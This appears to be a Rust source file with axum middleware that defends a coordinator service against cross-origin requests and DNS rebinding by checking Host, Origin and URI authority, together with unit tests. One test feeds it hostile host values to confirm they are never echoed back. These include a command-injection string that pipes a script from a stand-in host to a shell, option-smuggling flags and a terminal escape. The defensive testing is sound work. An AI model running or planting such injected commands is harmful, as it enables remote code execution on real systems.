//! Which pages may send requests: only the coordinator's own.
//!
//! A page from anywhere can have a browser send requests, and open websockets, to this machine and to those of its
//! network. Such a request names its page as `Origin`; and a request that arrived by a name made to point here
//! (DNS rebinding) has that name as `Host`. So the names are listed, and both are checked, whatever the network.
//! An address in `Host` needs no list: no DNS name was used, and a page with this origin came
//! from this very address.
//!
//! A request names its target as `Host`, and may name it in its URI as well (RFC 9112, 3.2.2). A proxy between a
//! client and this coordinator may use either, so both must be right.

use std::fmt::{self, Display};
use std::net::IpAddr;
use std::str::FromStr;

use axum::extract::{Request, State};
use axum::http::uri::Authority;
use axum::http::{HeaderMap, StatusCode, Uri, header};
use axum::middleware::Next;
use axum::response::{IntoResponse, Response};
use sateen_api::names::quoted;
use sateen_command_line::{is_machine_name, machine_address, without_port};

use super::Api;
use super::problem::Problem;

/// A name under which clients reach a coordinator, without a port: `grid.example.org`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PublicName(String);

impl Display for PublicName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl FromStr for PublicName {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        if is_machine_name(text) {
            return Ok(Self(text.trim_end_matches('.').to_ascii_lowercase()));
        }
        Err("not a name of a machine; expected, for example, grid.example.org, without http:// and without a port"
            .to_owned())
    }
}

/// The names and addresses under which this coordinator accepts requests.
#[derive(Debug, Clone, Default)]
pub struct PublicNames {
    names: Vec<PublicName>,
    /// The coordinator listens on an address that other machines can reach.
    is_public: bool,
    /// It speaks TLS, so its own pages are https.
    is_tls: bool,
}

impl PublicNames {
    /// For a coordinator that listens on `address`.
    pub fn new(names: Vec<PublicName>, address: IpAddr, is_tls: bool) -> Self {
        Self { names, is_public: !address.is_loopback(), is_tls }
    }

    /// Whether `host`, as in the header, is this coordinator.
    fn knows(&self, host: &str) -> bool {
        let name = without_port(host);
        if name.eq_ignore_ascii_case("localhost") || self.is_listed(name) {
            return true;
        }
        machine_address(name).is_some_and(|address| address.is_loopback() || self.is_public)
    }

    fn is_listed(&self, name: &str) -> bool {
        let name = name.trim_end_matches('.');
        self.names.iter().any(|known| known.0.eq_ignore_ascii_case(name))
    }

    /// Whether `origin` is this coordinator's own, for a request whose `Host` is `host`. Where a proxy speaks TLS
    /// for a listed name, the page's origin is https.
    fn is_own(&self, origin: &str, host: &str) -> bool {
        if self.is_tls {
            return origin.strip_prefix("https://") == Some(host);
        }
        origin.strip_prefix("http://") == Some(host)
            || (self.is_listed(without_port(host)) && origin.strip_prefix("https://") == Some(host))
    }
}

/// Lets a request pass, or refuses it.
pub async fn check(State(api): State<Api>, request: Request, next: Next) -> Response {
    match refusal(request.uri(), request.headers(), &api.names) {
        Some(problem) => problem.into_response(),
        None => next.run(request).await,
    }
}

fn refusal(uri: &Uri, headers: &HeaderMap, names: &PublicNames) -> Option<Problem> {
    let text = |name| headers.get(name).map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
    if headers.get_all(header::HOST).iter().nth(1).is_some() {
        return Some(Problem::bad_request("the request has more than one Host header"));
    }
    let Some(host) = text(header::HOST).filter(|host| !host.is_empty()) else {
        let why = "the request has no Host header, or an empty one; it must name the coordinator as the URL does, for \
                   example, Host: 127.0.0.1:7700";
        return Some(Problem::bad_request(why));
    };
    let authority = uri.authority().map(Authority::as_str);
    if let Some(unknown) = [Some(&*host), authority].into_iter().flatten().find(|host| !names.knows(host)) {
        return Some(misdirected(unknown));
    }
    let origin = text(header::ORIGIN)?;
    if names.is_own(&origin, authority.unwrap_or(&host)) {
        return None;
    }
    let why = format!("a web page from {} may not use this coordinator", quoted(&origin));
    Some(Problem::new(StatusCode::FORBIDDEN, why))
}

/// Repeats only what can be the name or address of a machine.
fn misdirected(host: &str) -> Problem {
    let name = without_port(host);
    let why = if name.parse::<PublicName>().is_ok() {
        format!(
            "the request is for `{name}`, which this coordinator does not know as its own name; if it is, start it with \
             --public-name {name}"
        )
    } else if machine_address(name).is_some() {
        format!(
            "the request is for the address `{name}`, and this coordinator answers to loopback addresses only"
        )
    } else {
        "the request's host is not the name or address of a machine; it must name the coordinator as the URL does, for \
         example, Host: 127.0.0.1:7700"
            .to_owned()
    };
    Problem::new(StatusCode::MISDIRECTED_REQUEST, why)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn status(host: &str, origin: Option<&str>, names: &PublicNames) -> Option<u16> {
        let mut headers = HeaderMap::new();
        headers.insert(header::HOST, host.parse().expect("a value"));
        if let Some(origin) = origin {
            headers.insert(header::ORIGIN, origin.parse().expect("a value"));
        }
        refusal(&Uri::from_static("/"), &headers, names)
            .map(|problem| problem.into_response().status().as_u16())
    }

    #[test]
    fn foreign_pages_are_refused() {
        let names = PublicNames::default();
        assert_eq!(status("127.0.0.1:7700", None, &names), None);
        assert_eq!(status("localhost:7700", Some("http://localhost:7700"), &names), None);
        assert_eq!(status("[::1]:7700", None, &names), None);
        for origin in ["http://evil.example", "null", "https://127.0.0.1:7700", "http://127.0.0.1:7701"] {
            assert_eq!(status("127.0.0.1:7700", Some(origin), &names), Some(403), "{origin}");
        }
        for host in ["10.0.0.1:7700", "evil.example:7700", "127.0.0.1.evil.example", "localhost.evil.example"]
        {
            assert_eq!(status(host, None, &names), Some(421), "{host}");
        }
    }

    #[test]
    fn a_request_that_names_no_host_is_refused_with_the_reason() {
        let public = PublicNames::new(Vec::new(), "0.0.0.0".parse().expect("an address"), false);
        for names in [PublicNames::default(), public] {
            for origin in [None, Some("http://127.0.0.1:7700"), Some("http://")] {
                assert_eq!(status("", origin, &names), Some(400), "{origin:?}");
            }
            let problem = refusal(&Uri::from_static("/"), &HeaderMap::new(), &names).expect("it is refused");
            assert_eq!(problem.status(), StatusCode::BAD_REQUEST);
            assert!(problem.json()["detail"].as_str().is_some_and(|why| why.contains("no Host header")));
        }
    }

    #[test]
    fn on_a_trusted_network_only_listed_names_are_answered() {
        let listed = vec!["Grid.example.org".parse().expect("a name")];
        let names = PublicNames::new(listed, "0.0.0.0".parse().expect("an address"), false);
        for host in [
            "grid.example.org:7700",
            "GRID.example.org",
            "grid.example.org.",
            "10.0.0.1:7700",
            "[fd00::1]:7700",
        ] {
            assert_eq!(status(host, None, &names), None, "{host}");
            assert_eq!(status(host, Some(&format!("http://{host}")), &names), None, "{host}");
            assert_eq!(status(host, Some("http://evil.example"), &names), Some(403), "{host}");
        }
        assert_eq!(status("grid.example.org", Some("https://grid.example.org"), &names), None);
        // A name made to point here: its page has it as its origin, too.
        let evil = "evil.example:7700";
        assert_eq!(status(evil, Some(&format!("http://{evil}")), &names), Some(421));
        assert_eq!(status(evil, None, &names), Some(421));
    }

    #[test]
    fn with_tls_its_own_pages_are_https() {
        let listed = vec!["grid.example.org".parse().expect("a name")];
        let names = PublicNames::new(listed, "0.0.0.0".parse().expect("an address"), true);
        for host in ["grid.example.org", "10.0.0.1:7700", "localhost:7700"] {
            assert_eq!(status(host, Some(&format!("https://{host}")), &names), None, "{host}");
            assert_eq!(status(host, Some(&format!("http://{host}")), &names), Some(403), "{host}");
        }
    }

    #[test]
    fn a_host_that_is_not_the_name_of_a_machine_is_not_repeated() {
        let why = |host: &str| {
            let problem = misdirected(host);
            assert_eq!(problem.status(), StatusCode::MISDIRECTED_REQUEST);
            problem.json()["detail"].as_str().expect("a sentence").to_owned()
        };
        assert!(why("grid.example:7700").ends_with("start it with --public-name grid.example"));
        assert!(why("10.0.0.1").ends_with("start it with --public-name 10.0.0.1"));
        assert!(why("[fd00::1]:7700").contains("the address `[fd00::1]`"));
        let long = "x".repeat(254);
        for hostile in [
            "evil; curl evil.example | sh",
            "--trusted-network",
            "evil --trusted-network:7700",
            "a`b",
            "\u{9b}2Jevil",
            "evil@127.0.0.1",
            "evil/127.0.0.1",
            "[evil]",
            ":7700",
            &long,
        ] {
            let why = why(hostile);
            assert!(why.starts_with("the request's host is not the name or address of a machine"), "{why}");
            assert!(!why.contains("evil") && !why.contains("--") && !why.contains("xxx"), "{why}");
        }
    }

    #[test]
    fn a_public_name_is_a_bare_name() {
        for wrong in ["", "http://grid", "grid:7700", "a b", "a/b", "-grid", ".grid", &"x".repeat(300)] {
            assert!(wrong.parse::<PublicName>().is_err(), "{wrong}");
        }
        assert!("grid-1.example.org".parse::<PublicName>().is_ok());
    }
}
